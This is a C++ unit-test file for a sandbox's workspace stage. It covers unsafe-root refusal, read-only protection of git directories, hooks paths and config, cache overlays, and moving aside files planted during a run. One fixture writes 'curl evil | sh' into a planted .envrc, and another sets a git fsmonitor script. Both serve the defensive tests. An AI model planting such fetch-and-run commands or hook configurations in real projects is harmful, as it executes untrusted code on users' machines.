// The workspace stage on private temporary trees: finding and refusing roots, protected paths
// (a linked worktree's git directory included), caches and the check after a run.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <fstream>
#include <string>

#include "common/scratch_dir_test.h"
#include "workspace/after_run.h"
#include "workspace/caches.h"
#include "workspace/prepare.h"
#include "workspace/protect.h"
#include "workspace/root.h"

namespace sandbox::workspace {
namespace {

class WorkspaceTest : public ScratchDirTest {
 protected:
  // Makes `rel` and its missing parents; returns its path.
  std::string Mkdir(const std::string& rel) {
    std::string path = dir_ + "/" + rel;
    EXPECT_TRUE(MakeDirs(path));
    return path;
  }
  void Write(const std::string& rel, const std::string& text) {
    std::ofstream(dir_ + "/" + rel) << text;
  }
  static bool Has(const std::vector<cli::MountRequest>& mounts, MountKind kind,
                  const std::string& source, const std::string& target) {
    for (const auto& m : mounts) {
      if (m.kind == kind && m.source == source && m.target == target) return true;
    }
    return false;
  }
};

TEST_F(WorkspaceTest, RootIsTheGitTopLevelAboveTheWorkingDirectory) {
  Mkdir("proj/.git");
  std::string build = Mkdir("proj/build/sub");
  std::string found_by;
  EXPECT_EQ(FindRoot(build, Homes{}, &found_by), dir_ + "/proj");
  EXPECT_EQ(found_by, "git work tree");
  std::string plain = Mkdir("plain/x");
  EXPECT_EQ(FindRoot(plain, Homes{}, &found_by), plain);
  EXPECT_EQ(found_by, "working directory");
}

TEST_F(WorkspaceTest, RootSearchNeverReachesTheHome) {
  // A dotfiles repository in the home is not the project of a directory below it.
  Mkdir("home/.git");
  std::string proj = Mkdir("home/proj");
  std::string found_by;
  EXPECT_EQ(FindRoot(proj, Homes{{dir_ + "/home"}}, &found_by), proj);
}

TEST_F(WorkspaceTest, UnsafeRootsAreRefusedWithTheFix) {
  Homes homes{{"/home/alice"}};
  for (const char* root : {"/", "/home", "/home/alice", "/usr", "/usr/share/doc", "/etc/x", "/tmp",
                           "/var", "/proc/self", "/run/user/1000"}) {
    auto r = CheckRoot(root, homes, false);
    ASSERT_FALSE(r) << root;
    EXPECT_NE(r.error().hint.find("--workspace DIR"), std::string::npos) << root;
  }
  EXPECT_FALSE(CheckRoot("/home/alice/.ssh", homes, false));
  EXPECT_FALSE(CheckRoot("/home/alice/.local/bin", homes, false));
  EXPECT_TRUE(CheckRoot("/home/alice/.local/src/p", homes, true));  // named explicitly
  EXPECT_TRUE(CheckRoot("/home/alice/src/p", homes, false));
  EXPECT_TRUE(CheckRoot("/tmp/build-1", homes, false));
  EXPECT_TRUE(CheckRoot("/var/lib/buildbot/worker/build", homes, false));
}

TEST_F(WorkspaceTest, ProtectBindsPresentPathsAndWatchesTheRest) {
  Mkdir("p/.git/hooks");
  Mkdir("p/.vscode");
  ASSERT_EQ(::symlink("/etc", (dir_ + "/p/.idea").c_str()), 0);
  std::vector<ProtectedPath> paths;
  std::vector<cli::MountRequest> mounts;
  std::vector<std::string> notes;
  Protect({dir_ + "/p", "/work", false, {"tools/hooks"}, {".vscode"}, {}, ""}, &paths, &mounts,
          &notes);
  EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/p/.git", "/work/.git"));
  EXPECT_FALSE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/p/.vscode", "/work/.vscode"));
  auto find = [&](const std::string& rel) -> const ProtectedPath* {
    for (const auto& p : paths) {
      if (p.path == dir_ + "/p/" + rel) return &p;
    }
    return nullptr;
  };
  ASSERT_NE(find(".git"), nullptr);
  EXPECT_TRUE(find(".git")->read_only);
  ASSERT_NE(find(".envrc"), nullptr);
  EXPECT_FALSE(find(".envrc")->read_only);  // absent: watched
  ASSERT_NE(find(".idea"), nullptr);
  EXPECT_FALSE(find(".idea")->read_only);  // a symlink: never followed, watched
  EXPECT_NE(find(".idea")->ino, 0u);
  ASSERT_NE(find("tools/hooks"), nullptr);
  EXPECT_EQ(find(".vscode"), nullptr);

  paths.clear();
  mounts.clear();
  Protect({dir_ + "/p", "/work", true, {}, {}, {}, ""}, &paths, &mounts, &notes);
  EXPECT_EQ(find(".git"), nullptr);  // --workspace-vcs rw
}

TEST_F(WorkspaceTest, LinkedWorktreeGetsItsGitDirectoriesReadOnly) {
  Mkdir("main/.git/worktrees/wt");
  Mkdir("wt");
  Write("wt/.git", "gitdir: " + dir_ + "/main/.git/worktrees/wt\n");
  Write("main/.git/worktrees/wt/gitdir", dir_ + "/wt/.git\n");
  Write("main/.git/worktrees/wt/commondir", "../..\n");
  std::vector<ProtectedPath> paths;
  std::vector<cli::MountRequest> mounts;
  std::vector<std::string> notes;
  Protect({dir_ + "/wt", dir_ + "/wt", false, {}, {}, {}, ""}, &paths, &mounts, &notes);
  EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/wt/.git", dir_ + "/wt/.git"));
  EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/main/.git", dir_ + "/main/.git"));
  EXPECT_TRUE(notes.empty());

  // A .git file naming a directory that does not name it back shows nothing more.
  Mkdir("other/.git");
  Write("wt/.git", "gitdir: " + dir_ + "/other/.git\n");
  mounts.clear();
  Protect({dir_ + "/wt", dir_ + "/wt", false, {}, {}, {}, ""}, &paths, &mounts, &notes);
  EXPECT_FALSE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/other/.git", dir_ + "/other/.git"));
  ASSERT_EQ(notes.size(), 1u);
}

TEST_F(WorkspaceTest, SubmodulesDotGitIsProtected) {
  Mkdir("p/.git/modules/lib");
  Mkdir("p/third/lib");
  Write("p/.gitmodules", "[submodule \"lib\"]\n\tpath = third/lib\n\turl = x\n");
  Write("p/third/lib/.git", "gitdir: ../../.git/modules/lib\n");
  std::vector<ProtectedPath> paths;
  std::vector<cli::MountRequest> mounts;
  std::vector<std::string> notes;
  Protect({dir_ + "/p", dir_ + "/p", false, {}, {}, {}, ""}, &paths, &mounts, &notes);
  EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/p/third/lib/.git",
                  dir_ + "/p/third/lib/.git"));
}

// core.hooksPath inside the checkout (husky's .husky/_, a project's .githooks) is where git
// runs hooks from: protected like .git/hooks, from the repository's config or the caller's.
TEST_F(WorkspaceTest, HooksPathInsideTheCheckoutIsProtected) {
  Mkdir("p/.git");
  Mkdir("p/.githooks");
  Mkdir("p/tools/hooks");
  Mkdir("home");
  Write("p/.git/config",
        "[core]\n\trepositoryformatversion = 0\n\tHooksPath = \"./.githooks/\" # local\n"
        "[core \"x\"]\n\thookspath = not-core\n[include]\n\tpath = ../.gitconfig\n");
  Write("p/.gitconfig", "[core]\n\tfsmonitor = ./watch.sh\n");  // the project's, versioned
  // ~/.gitconfig as a dotfile manager leaves it: a symlink (git follows it, and so does this).
  Write("home/dotfiles-gitconfig", "[user]\nname = a\n[core] hooksPath = ~/../p/tools/hooks\n");
  ASSERT_EQ(::symlink("dotfiles-gitconfig", (dir_ + "/home/.gitconfig").c_str()), 0);
  Write("global",
        "[core]\nhooksPath = ../outside\nhooksPath = /etc/hooks\n"
        "hooksPath = .git/hooks\nhooksPath = later\n"
        "[includeIf \"gitdir:~/work/\"]\n\tpath = work.inc\n[include]\npath = global\n");
  Mkdir("p/team-hooks");
  Write("work.inc", "[core]\n\thooksPath = team-hooks\n");
  std::vector<ProtectedPath> paths;
  std::vector<cli::MountRequest> mounts;
  std::vector<std::string> notes;
  Protect({dir_ + "/p",
           "/work",
           false,
           {},
           {},
           {dir_ + "/home/.gitconfig", dir_ + "/global"},
           dir_ + "/home"},
          &paths, &mounts, &notes);
  EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/p/.githooks", "/work/.githooks"));
  EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/p/tools/hooks", "/work/tools/hooks"));
  std::vector<std::string> hooks;
  for (const ProtectedPath& p : paths) {
    if (p.reason == "hooks") hooks.push_back(p.path.substr(dir_.size()));
  }
  // "later" is absent: watched. Outside, climbing and already-protected values add nothing.
  // An included file's too (whatever includeIf's condition), once even when it loops.
  EXPECT_EQ(hooks, (std::vector<std::string>{"/p/.githooks", "/p/tools/hooks", "/p/later",
                                             "/p/team-hooks"}));
  EXPECT_TRUE(notes.empty());
  // The project's .gitconfig that the repository includes is git configuration too.
  EXPECT_TRUE(Has(mounts, MountKind::kReadOnlyBind, dir_ + "/p/.gitconfig", "/work/.gitconfig"));

  // --workspace-vcs rw leaves hooks as writable as .git; --unprotect leaves one.
  paths.clear();
  Protect({dir_ + "/p", "/work", true, {}, {}, {dir_ + "/global"}, ""}, &paths, &mounts, &notes);
  for (const ProtectedPath& p : paths) EXPECT_NE(p.reason, "hooks") << p.path;
  paths.clear();
  Protect({dir_ + "/p", "/work", false, {}, {"later"}, {dir_ + "/global"}, ""}, &paths, &mounts,
          &notes);
  hooks.clear();
  for (const ProtectedPath& p : paths) {
    if (p.reason == "hooks") hooks.push_back(p.path.substr(dir_.size()));
  }
  EXPECT_EQ(hooks, (std::vector<std::string>{"/p/.githooks", "/p/team-hooks"}));
}

TEST_F(WorkspaceTest, PlantedPathsAreMovedAsideAfterTheRun) {
  std::string p = Mkdir("p");
  Layout layout;
  std::vector<cli::MountRequest> mounts;
  Protect({p, p, false, {}, {}, {}, ""}, &layout.protected_paths, &mounts, &layout.notes);
  Mkdir("p/.git/hooks");  // the job made the checkout a repository
  Write("p/.envrc", "curl evil | sh\n");
  auto moved = MoveAsidePlanted(layout, "run1");
  ASSERT_EQ(moved.size(), 2u);
  struct stat st {};
  EXPECT_NE(::lstat((p + "/.git").c_str(), &st), 0);
  EXPECT_EQ(::lstat((p + "/.git.sandbox-moved-run1").c_str(), &st), 0);
  EXPECT_EQ(::lstat((p + "/.envrc.sandbox-moved-run1").c_str(), &st), 0);
  EXPECT_TRUE(MoveAsidePlanted(layout, "run2").empty());  // nothing new since
}

TEST_F(WorkspaceTest, CachesAreTheSandboxsOwnOverTheHostsAndLocked) {
  std::string home = Mkdir("cache-home");
  std::string host = Mkdir("host-ccache");
  cli::CacheRequest cache{"ccache", "/tmp/.cache/ccache", host, "sandbox", "cc.toml:3:1"};
  std::vector<cli::MountRequest> mounts;
  std::vector<UniqueFd> locks;
  std::vector<std::string> notes;
  auto use = PrepareCache(cache, home, ::getuid(), true, &mounts, &locks, &notes);
  ASSERT_TRUE(use) << use.error().ToString();
  ASSERT_EQ(mounts.size(), 1u);
  EXPECT_EQ(mounts[0].kind, MountKind::kOverlay);
  EXPECT_EQ(mounts[0].layers, std::vector<std::string>{host});
  EXPECT_EQ(mounts[0].upper, home + "/sandbox/caches/ccache/data");
  struct stat st {};
  ASSERT_EQ(::stat((home + "/sandbox/caches/ccache/data").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0700u);
  EXPECT_EQ(locks.size(), 1u);

  // While the first run holds it, a second sees both layers and keeps nothing.
  std::vector<cli::MountRequest> second;
  std::vector<UniqueFd> second_locks;
  ASSERT_TRUE(PrepareCache(cache, home, ::getuid(), true, &second, &second_locks, &notes));
  ASSERT_EQ(second.size(), 1u);
  EXPECT_EQ(second[0].kind, MountKind::kTmpOverlay);
  EXPECT_EQ(notes.size(), 1u);

  // Without a host cache: a plain bind of the sandbox's own.
  cache.host = dir_ + "/absent";
  mounts.clear();
  ASSERT_TRUE(PrepareCache(cache, home, ::getuid(), true, &mounts, &locks, &notes));
  EXPECT_TRUE(Has(mounts, MountKind::kBind, home + "/sandbox/caches/ccache/data", cache.target));
}

TEST_F(WorkspaceTest, PrepareOrdersWorkspaceCachesFlagsThenProtection) {
  Mkdir("proj/.git");
  std::string cwd = Mkdir("proj/build");
  cli::CliOptions options;
  cli::MountRequest profile_tmp;
  profile_tmp.kind = MountKind::kTmpfs;
  profile_tmp.target = "/tmp";
  cli::MountRequest flag = profile_tmp;
  flag.target = "/scratch";
  options.mounts = {profile_tmp, flag};
  options.profile_mounts = 1;
  options.workspace.mode = "bind";
  options.caches.push_back({"pip", "/tmp/.cache/pip", "", "run", "x"});
  Context context;
  context.cwd = cwd;
  context.uid = ::getuid();
  auto layout = Prepare(&options, context);
  ASSERT_TRUE(layout) << layout.error().ToString();
  EXPECT_EQ(layout->root, dir_ + "/proj");
  ASSERT_EQ(options.mounts.size(), 5u);
  EXPECT_EQ(options.mounts[0].target, "/tmp");
  EXPECT_EQ(options.mounts[1].source, dir_ + "/proj");  // the workspace, read-write
  EXPECT_EQ(options.mounts[1].kind, MountKind::kBind);
  EXPECT_EQ(options.mounts[2].target, "/tmp/.cache/pip");
  EXPECT_EQ(options.mounts[3].target, "/scratch");
  EXPECT_EQ(options.mounts[4].kind, MountKind::kReadOnlyBind);
  EXPECT_EQ(options.mounts[4].target, dir_ + "/proj/.git");
  bool watches_build = false;
  for (const auto& p : layout->protected_paths) watches_build |= p.path == cwd + "/.git";
  EXPECT_TRUE(watches_build);

  options.cache_shares = {{"nope", "host"}};
  EXPECT_FALSE(Prepare(&options, context));
}

}  // namespace
}  // namespace sandbox::workspace
